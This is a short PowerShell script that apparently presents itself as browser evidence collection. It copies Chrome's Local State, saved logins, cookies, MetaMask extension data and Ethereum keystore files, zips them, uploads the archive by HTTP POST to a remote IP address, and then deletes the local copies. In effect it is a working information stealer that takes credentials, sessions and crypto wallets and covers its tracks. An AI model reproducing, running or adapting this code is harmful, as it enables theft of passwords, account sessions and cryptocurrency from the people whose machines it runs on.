$ud = "$env:LOCALAPPDATA\Google\Chrome\User Data"
$out = "$env:TEMP\chrome-evidence"
New-Item -ItemType Directory -Force -Path $out | Out-Null

Get-ChildItem "$ud\Default\Extensions" | Select-Object Name | Export-Csv "$out\extensions.csv" -NoTypeInformation
Copy-Item "$ud\Local State" $out
Copy-Item "$ud\Default\Login Data" $out
Copy-Item "$ud\Default\Network\Cookies" $out
Copy-Item "$ud\Default\Local Extension Settings\nkbihfbeogaeaoehlefnkodbefgpgknn" "$out\metamask" -Recurse
Copy-Item "$env:APPDATA\Ethereum\keystore" "$out\keystore" -Recurse -ErrorAction SilentlyContinue

Compress-Archive -Path "$out\*" -DestinationPath "$env:TEMP\evidence.zip" -Force
Invoke-RestMethod -Uri 'http://203.0.113.45:8443/collect' -Method Post -InFile "$env:TEMP\evidence.zip" -ContentType 'application/octet-stream'
Remove-Item $out, "$env:TEMP\evidence.zip" -Recurse -Force
